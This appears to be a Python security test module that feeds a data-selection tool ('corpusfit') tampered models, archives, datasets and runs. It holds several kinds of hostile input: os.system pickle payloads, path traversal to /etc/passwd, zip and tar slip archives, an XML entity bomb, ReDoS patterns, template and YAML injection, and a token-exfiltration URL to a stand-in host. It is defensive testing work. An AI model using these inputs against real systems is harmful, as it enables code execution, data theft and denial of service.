"""Hostile files: models, archives, links, data sets and finished runs that were tampered with."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
from safetensors.numpy import load_file, save_file
from tokenizers import Regex, Tokenizer, pre_tokenizers

from foes_places import finished, labeled, rows, write

if TYPE_CHECKING:
    from foes import Box

_SHORT = [
    "--max-steps",
    "1",
    "--set",
    "train.length=16",
    "--set",
    "train.batch=2",
    "--data",
    "data.jsonl",
]
_FORK = "import os\nos.system('touch \"$FOE_RAN\"')\n"


class _Payload:
    """A pickle that leaves a mark when it is opened."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ('touch "$FOE_RAN"',)


_PICKLE = pickle.dumps(_Payload())


def _changed(path: Path, **values: object) -> None:
    found = json.loads(path.read_bytes()) if path.exists() else {}
    path.write_text(json.dumps({**found, **values}), "utf-8")


def _header(path: Path, header: object, size: int | None = None, data: bytes = b"") -> None:
    """Write a safetensors file with any header, and any claim of the header's size."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(text) if size is None else size) + text + data)


def _try_model(box: Box, change: Callable[[Path], object]) -> None:
    """Adapt, evaluate and embed with a model of a stranger."""
    write(box.given / "data.jsonl", rows(60))
    folder = Path(shutil.copytree(box.model, box.given / "model"))
    change(folder)
    box.corpusfit("adapt", "--model", folder, *_SHORT, "--out", box.out / "model")
    if box.codes == [0]:
        for name in ("train", "dev", "test"):
            write(box.given / "task" / f"{name}.jsonl", labeled(8, "a", "b"))
        own = ["--task", "task", "--seeds", "1", "--epochs", "1", "--length", "16", "--out"]
        box.corpusfit("evaluate", "--model", folder, *own, box.out / "eval")
        _embed(box, folder)


def _embed(box: Box, embedder: object) -> None:
    write(box.given / "target.jsonl", rows(25))
    write(box.given / "corpus/a.jsonl", rows(60))
    own = [
        "--target",
        "target.jsonl",
        "--corpus",
        "corpus",
        "--method",
        "centroid_distance",
        "--engine",
        "inline",
    ]
    own += ["--no-report", "--embedder", embedder, "--out", box.out / "embedded"]
    box.corpusfit("select", *own)


def _with_code(folder: Path, key: str = "auto_map", at: str = "config.json") -> None:
    for name in ("modeling_own", "configuration_own", "tokenization_own"):
        (folder / f"{name}.py").write_text(_FORK, "utf-8")
    own = {
        "AutoConfig": "configuration_own.Own",
        "AutoModel": "modeling_own.Own",
        "AutoModelForMaskedLM": "modeling_own.Own",
        "AutoTokenizer": ["tokenization_own.Own", "tokenization_own.OwnFast"],
    }
    _changed(folder / at, **{key: own, "tokenizer_class": "OwnTokenizer"})


def _own_kind(folder: Path) -> None:
    _with_code(folder)
    _changed(folder / "config.json", model_type="own", architectures=["Own"])


def _pickled(folder: Path, name: str = "pytorch_model.bin", *, instead: bool = True) -> None:
    (folder / name).write_bytes(_PICKLE)
    if instead:
        (folder / "model.safetensors").unlink()


def _index(folder: Path, file: str) -> None:
    """Shards that lie elsewhere, or that are pickles."""
    names = load_file(folder / "model.safetensors")
    shutil.move(folder / "model.safetensors", folder / "other.safetensors")
    weights = dict.fromkeys(names, file)
    (folder / "model.safetensors.index.json").write_text(
        json.dumps({"metadata": {"total_size": 1}, "weight_map": weights}), "utf-8"
    )
    (folder / "shard.bin").write_bytes(_PICKLE)


def _modules(folder: Path, path: str) -> None:
    """A model whose parts lie in another folder."""
    shutil.copytree(folder, folder.parents[1] / "outside/model")
    shutil.rmtree(folder)
    folder.mkdir()
    kind = "sentence_transformers.models.Transformer"
    modules = [{"idx": 0, "name": "0", "path": path, "type": kind}]
    (folder / "modules.json").write_text(json.dumps(modules), "utf-8")


def _peft(folder: Path) -> None:
    """An adapter of peft beside the model, whose weights are a pickle."""
    about = {"peft_type": "LORA", "r": 2, "target_modules": ["query"], "task_type": None}
    about["base_model_name_or_path"] = str(folder)
    (folder / "adapter_config.json").write_text(json.dumps(about), "utf-8")
    (folder / "adapter_model.bin").write_bytes(_PICKLE)


def _split_regex(folder: Path, pattern: str) -> None:
    tokenizer = Tokenizer.from_file(str(folder / "tokenizer.json"))
    tokenizer.pre_tokenizer = pre_tokenizers.Split(Regex(pattern), "isolated")
    tokenizer.save(str(folder / "tokenizer.json"))
    write(folder.parent / "data.jsonl", [{"text": "a" * 5000 + "!"} for _ in range(40)] + rows(60))


def _claims(**values: object) -> Callable[[Path], None]:
    return lambda folder: _changed(folder / "config.json", **values)


def _tensors(header: object, size: int | None = None, data: bytes = b"") -> Callable[[Path], None]:
    return lambda folder: _header(folder / "model.safetensors", header, size, data)


_F32 = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
MODELS: dict[str, Callable[[Path], object]] = {
    "auto_map": _with_code,
    "auto_map of the tokenizer": partial(_with_code, at="tokenizer_config.json"),
    "auto_map of another repository": lambda f: _changed(
        f / "config.json", auto_map={"AutoModel": "foe/own--modeling_own.Own"}
    ),
    "a kind of its own": _own_kind,
    "code for generation": lambda f: (
        (f / "custom_generate").mkdir(),
        (f / "custom_generate/generate.py").write_text(_FORK),
    ),
    "weights as a pickle": _pickled,
    "a pickle beside the weights": partial(_pickled, instead=False),
    "a pickle named safetensors": lambda f: (f / "model.safetensors").write_bytes(_PICKLE),
    "optimizer as a pickle": partial(_pickled, name="optimizer.pt", instead=False),
    "training arguments": partial(_pickled, name="training_args.bin", instead=False),
    "shards that are pickles": partial(_index, file="shard.bin"),
    "shards elsewhere": partial(_index, file="../../outside/secret.jsonl"),
    "shards at a root": partial(_index, file="/etc/passwd"),
    "modules above": partial(_modules, path="../../outside/model"),
    "modules at a root": lambda f: _modules(f, str(f.parents[1] / "outside/model")),
    "an adapter that is a pickle": _peft,
    "kernels of the hub": _claims(_attn_implementation="foe/kernel", attn_implementation="foe/k"),
    "quantized by something": _claims(quantization_config={"quant_method": "foe", "x": "y"}),
    "a type of numbers": _claims(torch_dtype="os.system", dtype="os.system"),
    "a billion wide": _claims(hidden_size=10**9, intermediate_size=10**9),
    "a vocabulary of 10^15": _claims(vocab_size=10**15),
    "layers below zero": _claims(num_hidden_layers=-1, num_attention_heads=0),
    "settings of other types": _claims(vocab_size="many", hidden_size=[1], hidden_act={"a": 1}),
    "an activation by name": _claims(hidden_act="os.system"),
    "a config that is a list": lambda f: (f / "config.json").write_text("[1, 2]"),
    "a config of deep lists": lambda f: (f / "config.json").write_text("[" * 100_000),
    "a tokenizer that is a list": lambda f: (f / "tokenizer.json").write_text("[]"),
    "a tokenizer's files elsewhere": lambda f: _changed(
        f / "tokenizer_config.json",
        tokenizer_file="../../outside/secret.jsonl",
        vocab_file="../../outside/secret.jsonl",
        name_or_path="../../outside",
    ),
    "a template that acts": lambda f: (f / "chat_template.jinja").write_text(
        "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    ),
    "an expression (a+)+": partial(_split_regex, pattern="(a+)+$"),
    "an expression (a|aa)+": partial(_split_regex, pattern="(a|a|aa)+$"),
    "an expression of 10^6 copies": partial(_split_regex, pattern="(a{1000}){1000}"),
    "a header of 2^63 bytes": _tensors(b"{}", 2**63),
    "a header of 2^40 bytes": _tensors(b"{}", 2**40),
    "a header of 100 MB": lambda f: _header(f / "model.safetensors", b'{"a":"' + b"x" * 10**8),
    "a header of deep lists": _tensors(b'{"a":' + b"[" * 10**6),
    "a tensor past the end": _tensors({"a": {**_F32, "data_offsets": [0, 2**50]}}, data=b"0" * 16),
    "a tensor from below zero": _tensors({"a": {**_F32, "data_offsets": [-16, 0]}}, data=b"0" * 16),
    "tensors that overlap": _tensors({"a": _F32, "b": _F32}, data=b"0" * 16),
    "a shape that lies": _tensors({"a": {**_F32, "shape": [2**32, 2**32]}}, data=b"0" * 16),
    "a tensor of objects": _tensors({"a": {**_F32, "dtype": "O"}}, data=b"0" * 16),
    "no weights": lambda f: (f / "model.safetensors").write_bytes(b""),
    "a link for weights": lambda f: (
        (f / "model.safetensors").unlink(),
        (f / "model.safetensors").symlink_to("../../outside/secret.jsonl"),
    ),
}


def _static(box: Box, change: Callable[[Path], object]) -> None:
    """Embed with a static model of a stranger."""
    folder = box.given / "static"
    folder.mkdir()
    words = {
        "[PAD]": 0,
        "[UNK]": 1,
        **{w: i for i, w in enumerate(["kinase", "cell", "ligand"], 2)},
    }
    model = {
        "type": "WordPiece",
        "unk_token": "[UNK]",
        "continuing_subword_prefix": "##",
        "max_input_chars_per_word": 100,
        "vocab": words,
    }
    normalizer = {
        "type": "BertNormalizer",
        "clean_text": True,
        "handle_chinese_chars": True,
        "strip_accents": None,
        "lowercase": True,
    }
    tokenizer = {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [],
        "normalizer": normalizer,
        "pre_tokenizer": {"type": "BertPreTokenizer"},
        "post_processor": None,
        "decoder": None,
        "model": model,
    }
    (folder / "tokenizer.json").write_text(json.dumps(tokenizer), "utf-8")
    table = np.random.default_rng(0).standard_normal((5, 8)).astype(np.float32)
    save_file({"embeddings": table}, folder / "model.safetensors")
    _changed(folder / "config.json", model_type="model2vec", normalize=True)
    change(folder)
    _embed(box, folder)


def _ids(folder: Path, **ids: object) -> None:
    found = json.loads((folder / "tokenizer.json").read_bytes())
    found["model"]["vocab"] |= ids
    (folder / "tokenizer.json").write_text(json.dumps(found), "utf-8")


def _arrays(folder: Path, **more: Any) -> None:
    path = folder / "model.safetensors"
    save_file({**load_file(path), **more}, path)


STATIC: dict[str, Callable[[Path], object]] = {
    "static as it should be": lambda _: None,
    "a token of a great number": partial(_ids, kinase=10**9),
    "a token below zero": partial(_ids, kinase=-(10**9)),
    "a token just below zero": partial(_ids, kinase=-6),
    "a token of 2^32": partial(_ids, kinase=2**32),
    "a token that is a word": partial(_ids, kinase="two"),
    "a token of one and a half": partial(_ids, kinase=1.5),
    "a mapping past the end": lambda f: _arrays(f, mapping=np.full(5, 10**9)),
    "a mapping from below zero": lambda f: _arrays(f, mapping=np.full(5, -(10**9))),
    "a table without width": lambda f: _arrays(f, embeddings=np.zeros(5, np.float32)),
    "a table of width 0": lambda f: _arrays(f, embeddings=np.zeros((5, 0), np.float32)),
    "a table of no numbers": lambda f: _arrays(f, embeddings=np.full((5, 8), np.nan, np.float32)),
    "weights of another length": lambda f: _arrays(f, weights=np.ones(3, np.float32)),
    "a limit below zero": lambda f: _changed(f / "config.json", max_length=-5),
    "a limit that is a word": lambda f: _changed(f / "config.json", max_length="five"),
    "modules that are a map": lambda f: _changed(f / "modules.json", a=1),
    "a config that is a word": lambda f: (f / "config.json").write_text('"model2vec"'),
}


def _tampered(box: Box, kind: str, change: Callable[[Path], object]) -> None:
    """Commands on a finished run of a stranger, or one that was tampered with."""
    run = finished(box, kind)
    change(run)
    box.corpusfit("report", run)
    if kind == "select":
        box.corpusfit("explain", run, "--text", "kinase binds")
        box.corpusfit("audit", run, "--engine", "inline")
        box.corpusfit("choose", run, "--fraction", "0.3", "--no-report", "--engine", "inline")
        for name in ("target.jsonl", "corpus"):
            (box.given / name).symlink_to(run.parents[3] / "foe-runs" / name)
        own = [
            "--target",
            "target.jsonl",
            "--corpus",
            "corpus",
            "--method",
            "dsir",
            "--engine",
            "inline",
        ]
        box.corpusfit("select", *own, "--no-report", "--out", run, "--overwrite")
    if kind == "adapt":
        (box.given / "data.jsonl").symlink_to(run.parents[3] / "foe-runs/corpus/a.jsonl")
        box.corpusfit("adapt", "--model", box.model, *_SHORT, "--out", run, "--overwrite")


def _link(at: str, to: str) -> Callable[[Path], None]:
    def change(run: Path) -> None:
        path = run / at
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        path.symlink_to(run.parents[1] / to, target_is_directory=(run.parents[1] / to).is_dir())

    return change


def _content(at: str, data: bytes) -> Callable[[Path], None]:
    def change(run: Path) -> None:
        paths = sorted(run.glob(at)) or [run / at]
        for path in paths:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)

    return change


def _source_elsewhere(run: Path) -> None:
    for name in ("manifest.json", ".corpusfit/scored.json"):
        found = json.loads((run / name).read_bytes())
        found["corpus"][0]["url"] = str(run.parents[1] / "outside/secret.jsonl")
        (run / name).write_text(json.dumps(found))


_NPY = io.BytesIO()
np.save(_NPY, np.array([_Payload()], dtype=object), allow_pickle=True)
_MARK = b'{"format": 1, "command": "select"}'
RUNS: dict[str, tuple[str, Callable[[Path], object]]] = {
    "files to delete above": (
        "select",
        _content(".corpusfit/files.json", b'["../../outside/secret.jsonl", "../../home/x"]'),
    ),
    "files to delete at a root": (
        "select",
        lambda run: (run / ".corpusfit/files.json").write_text(
            json.dumps([str(run.parents[1] / "outside/secret.jsonl")])
        ),
    ),
    "a source elsewhere": ("select", _source_elsewhere),
    "files to delete that are none": ("select", _content(".corpusfit/files.json", b'{"a": [1]}')),
    **{
        f"{at} that links elsewhere": ("select", _link(at, to))
        for at, to in (
            ("selected", "outside"),
            ("scores", "outside"),
            (".corpusfit/lock", "outside/secret.jsonl"),
            (".corpusfit/scored", "outside"),
            (".corpusfit/run.json", "outside/secret.jsonl"),
            ("manifest.json", "outside/secret.jsonl"),
            ("report.html", "outside/secret.jsonl"),
            ("rejects.jsonl", "outside/secret.jsonl"),
            ("examples.parquet", "outside/secret.jsonl"),
            (".corpusfit", "outside"),
            ("selected/link", "outside"),
        )
    },
    **{
        f"{at} {what}": ("select", _content(at, data))
        for at in (
            "manifest.json",
            ".corpusfit/run.json",
            ".corpusfit/scored.json",
            ".corpusfit/scored/*.json",
            "scores/*.parquet",
            "selected/*.zst",
            "examples.parquet",
            ".corpusfit/fit/*.safetensors",
        )
        for what, data in (("is a pickle", _PICKLE), ("is a list", b"[1]"), ("is empty", b""))
    },
    "manifest.json lies": (
        "select",
        _content(
            "manifest.json",
            b'{"command":"select","versions":{},"plan":{},"counts":{},"selected":{"a":1}}',
        ),
    ),
    "run.json is bare": ("select", _content(".corpusfit/run.json", _MARK)),
    "scores are objects of numpy": ("select", _content("scores/*.parquet", _NPY.getvalue())),
    "a checkpoint is a pickle": (
        "adapt",
        _content(".corpusfit/checkpoints/step-00000001/state.json", _PICKLE),
    ),
    "a model's manifest is a list": ("adapt", _content("manifest.json", b"[]")),
    "a model's losses are words": ("adapt", _content("losses.jsonl", b'{"step": "x"}\n"y"\n')),
    "an evaluation's manifest lies": (
        "evaluate",
        lambda run: _changed(run / "manifest.json", results=[{"model": "x", "size": "y"}]),
    ),
    "an evaluation without models": (
        "evaluate",
        lambda run: _changed(run / "manifest.json", models=[]),
    ),
}


def _adapter(box: Box) -> None:
    """An adapter whose base is a file, and one whose weights are a pickle."""
    folder = box.given / "adapter"
    base = {"name": "../outside", "fingerprint": "0"}
    write(folder / "adapter.json", [{"kind": "pfeiffer", "reduction": 2, "base": base}])
    (folder / "adapter.safetensors").write_bytes(_PICKLE)
    for name in ("train", "dev", "test"):
        write(box.given / "task" / f"{name}.jsonl", labeled(8, "a", "b"))
    own = ["--task", "task", "--seeds", "1", "--epochs", "1", "--length", "16", "--out"]
    box.corpusfit("evaluate", "--model", folder, *own, box.out / "eval")


def _hub(box: Box, name: str, change: Callable[[Path], object]) -> None:
    """A data set in a folder, read as one of the hub."""
    folder = box.given / "set"
    write(folder / "train.jsonl", rows(30))
    change(folder)
    write(box.given / "corpus/a.jsonl", rows(40))
    own = ["--corpus", "corpus", "--method", "dsir", "--no-report", "--engine", "inline", "--out"]
    box.corpusfit("select", *own, box.out / "run", "--target", name)


def _card(path: str) -> Callable[[Path], object]:
    head = f"---\nconfigs:\n- config_name: default\n  data_files: {path}\n---\n"
    return lambda folder: (folder / "README.md").write_text(head)


HUB: dict[str, tuple[str, Callable[[Path], object]]] = {
    "data set with a script": ("hub:set", lambda f: (f / "set.py").write_text(_FORK)),
    "data set with files above": ("hub:set", _card("../../outside/secret.jsonl")),
    "data set with files at a root": (
        "hub:set",
        lambda f: _card(str(f.parents[1] / "outside/*.jsonl"))(f),
    ),
    "data set with files of the web": ("hub:set", _card("https://foe.example/a.jsonl")),
    "data set with a YAML that acts": (
        "hub:set",
        lambda f: (f / "README.md").write_text(
            "---\nconfigs: !!python/object/apply:os.system ['touch $FOE_RAN']\n---\n"
        ),
    ),
    "data set of pickles": (
        "hub:set",
        lambda f: ((f / "train.jsonl").unlink(), (f / "train.pkl").write_bytes(_PICKLE)),
    ),
    "data set of a zip above": (
        "hub:set",
        lambda f: ((f / "train.jsonl").unlink(), _zip(f / "train.zip")),
    ),
    "data set of torch": (
        "hub:set",
        lambda f: ((f / "train.jsonl").unlink(), _tar(f / "train.tar")),
    ),
    **{
        f"hub name {name!a}": (f"hub:{name}", lambda _: None)
        for name in (
            "--foo",
            "../../x",
            "a/b@../../x",
            "a/b:../../x@train",
            "../nowhere",
            "/etc/passwd",
            "~/x",
            "",
            ":",
            "@",
            "a/b/../../../outside",
            "pickle",
            "json",
            "text",
            "webdataset",
            "parquet",
            "a b",
            ".",
            "..",
            "https://foe.example/a",
            "file:///etc/passwd",
            "a\n/b",
            "-",
            "pandas",
            "cache",
        )
    },
}


def _zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("../../home/evil.jsonl", "/tmp/foe-evil.jsonl", "..\\..\\evil.jsonl"):
            archive.writestr(name, json.dumps({"text": "kinase binds"}) + "\n")
        link = zipfile.ZipInfo("link.jsonl")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "../outside/secret.jsonl")


def _tar(path: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name, kind, to in (
            ("../../home/evil.jsonl", tarfile.REGTYPE, ""),
            ("/tmp/foe-evil.jsonl", tarfile.REGTYPE, ""),
            ("link.jsonl", tarfile.SYMTYPE, "../outside/secret.jsonl"),
            ("hard.jsonl", tarfile.LNKTYPE, "../outside/secret.jsonl"),
            ("null", tarfile.CHRTYPE, ""),
            ("a.pth", tarfile.REGTYPE, ""),
        ):
            member = tarfile.TarInfo(name)
            data = _PICKLE if name.endswith("pth") else b'{"text": "kinase"}\n'
            member.type, member.linkname = kind, to
            member.size = len(data) if kind == tarfile.REGTYPE else 0
            archive.addfile(member, io.BytesIO(data))


def _corpus(box: Box, change: Callable[[Path], object], *more: str) -> None:
    """A corpus of a stranger."""
    write(box.given / "target.jsonl", rows(25))
    write(box.given / "corpus/a.jsonl", rows(40))
    change(box.given / "corpus")
    own = [
        "--target",
        "target.jsonl",
        "--corpus",
        "corpus",
        "--method",
        "dsir",
        "--engine",
        "inline",
        "--out",
    ]
    box.corpusfit("select", *own, box.out / "run", *more)


def _xlsx(folder: Path) -> None:
    """A workbook with an entity that grows, named as the labels of a task."""
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {b} "{10 * f"&{a};"}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    ) + "]><a>&j;</a>"  # fmt: skip
    with zipfile.ZipFile(folder / "train.xlsx", "w") as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml"):
            archive.writestr(name, bomb)


CORPORA: dict[str, tuple[Callable[[Path], object], tuple[str, ...]]] = {
    "a zip that climbs": (lambda f: _zip(f / "b.zip"), ("--corpus", "corpus/b.zip")),
    "a tar that climbs": (lambda f: _tar(f / "b.tar"), ("--corpus", "corpus/b.tar")),
    "a tar.gz that climbs": (lambda f: _tar(f / "b.tar.gz"), ("--corpus", "corpus/b.tar.gz")),
    "a tar named jsonl": (lambda f: _tar(f / "b.jsonl"), ()),
    "a zip named jsonl.gz": (lambda f: _zip(f / "b.jsonl.gz"), ()),
    "a folder of links": (lambda f: (f / "b").symlink_to("../../outside"), ()),
    "a link to itself": (lambda f: (f / "b.jsonl").symlink_to("b.jsonl"), ()),
    "a link to a device": (lambda f: (f / "b.jsonl").symlink_to("/dev/zero"), ()),
    "a pipe": (lambda f: os.mkfifo(f / "b.jsonl"), ()),
    "a pickle named parquet": (lambda f: (f / "b.parquet").write_bytes(_PICKLE), ()),
    "JSON of deep lists": (
        lambda f: (f / "b.jsonl").write_bytes(
            b'{"text": "a", "b": ' + b"[" * 10**6 + b"]" * 10**6 + b"}\n"
        ),
        (),
    ),
    "JSON of a great number": (
        lambda f: (f / "b.jsonl").write_bytes(b'{"text": "a", "b": 1' + b"0" * 10**6 + b"}\n"),
        (),
    ),
    "JSON with two texts": (
        lambda f: (f / "b.jsonl").write_bytes(
            b'{"text": "a", "text": ["b"], "__class__": "os.system", "__proto__": {"a": 1}}\n'
        ),
        (),
    ),
    "a template with attributes": (
        lambda _: None,
        ("--text-field", "{text.__class__.__mro__} {0.__init__.__globals__} {text!r:>999999999}"),
    ),
    "a glob of everything": (lambda _: None, ("--corpus", "../**/*.html")),
}


def _xlsx_task(box: Box) -> None:
    (box.given / "task").mkdir()
    _xlsx(box.given / "task")
    for name in ("dev", "test"):
        write(box.given / "task" / f"{name}.jsonl", labeled(8, "a", "b"))
    box.corpusfit("evaluate", "--model", box.model, "--task", "task", "--out", box.out / "eval")


def _scorer(box: Box, change: Callable[[Path], object]) -> None:
    """A fitted scorer of a stranger."""
    import corpusfit

    write(box.given / "a.jsonl", rows(30))
    texts = [row["text"] for row in rows(40)]
    fitted = corpusfit.Scorer("dsir").fit(texts[:20], texts)
    fitted.save(box.given / "scorer")
    change(box.given / "scorer")
    from corpusfit.core.errors import CorpusfitError

    try:
        corpusfit.Scorer.load(box.given / "scorer").score_samples(texts)
    except CorpusfitError as e:
        print(ascii(e))


def _plans(box: Box) -> None:
    """A plan that names files of others in every setting of text."""
    write(box.given / "target.jsonl", rows(25))
    write(box.given / "corpus/a.jsonl", rows(40))
    from corpusfit.core.plan import Plan
    from corpusfit.core.settings import _leaves

    fields = [k for k, v in _leaves(Plan().as_dict(), "") if isinstance(v, str)]
    for n, key in enumerate(fields):
        own = [
            "--target",
            "target.jsonl",
            "--corpus",
            "corpus",
            "--engine",
            "inline",
            "--no-report",
            "--out",
        ]
        box.corpusfit("select", *own, box.out / str(n), "--set", f"{key}=../outside/secret.jsonl")


def _token(box: Box, path: str) -> None:
    """A recipe that would send a variable of the environment away."""
    import fsspec

    asked: list[str] = []

    class Theirs(fsspec.AbstractFileSystem):
        protocol = "foe"

        def info(self, path: str, **_: object) -> dict[str, Any]:
            asked.append(path)
            raise FileNotFoundError(path)

    fsspec.register_implementation("foe", Theirs, clobber=True)
    (box.given / "mix.toml").write_text(
        'composition = "E_D"\nbudget = 40\n[[sources]]\nkind = "specific"\nlanguage = "en"\n'
        f'name = "own"\npath = "{path}"\n',
        "utf-8",
    )
    box.corpusfit("compose", "mix.toml", "--engine", "inline", "--out", box.out / "mix")
    if any(os.environ["OWN_TOKEN"] in url for url in asked):
        box.faults.append("a recipe sends a variable of the environment to a stranger")


TRICKS: dict[str, Callable[[Box], None]] = {
    **{f"model: {name}": partial(_try_model, change=change) for name, change in MODELS.items()},
    **{f"static: {name}": partial(_static, change=change) for name, change in STATIC.items()},
    **{f"run: {name}": partial(_tampered, kind=k, change=c) for name, (k, c) in RUNS.items()},
    **{f"data: {name}": partial(_hub, name=n, change=c) for name, (n, c) in HUB.items()},
    **{
        f"corpus: {name}": (lambda box, c=c, more=more: _corpus(box, c, *more))
        for name, (c, more) in CORPORA.items()
    },
    **{
        f"scorer: {at} {what}": partial(_scorer, change=_content(at, data))
        for at in ("*.json", "*.safetensors")
        for what, data in (("is a pickle", _PICKLE), ("is a list", b"[1]"), ("is empty", b""))
    },
    "scorer: of another kind": partial(
        _scorer,
        change=lambda f: [_changed(p, method="os.system", kind="../x") for p in f.glob("*.json")],
    ),
    "recipe: a variable in an address": partial(_token, path="foe://x/${OWN_TOKEN}.jsonl"),
    "recipe: a variable in a chain": partial(
        _token, path="simplecache::foe://x/${OWN_TOKEN}.jsonl"
    ),
    "adapter: base and weights": _adapter,
    "task: a workbook that grows": _xlsx_task,
    "plan: files in every setting": _plans,
}
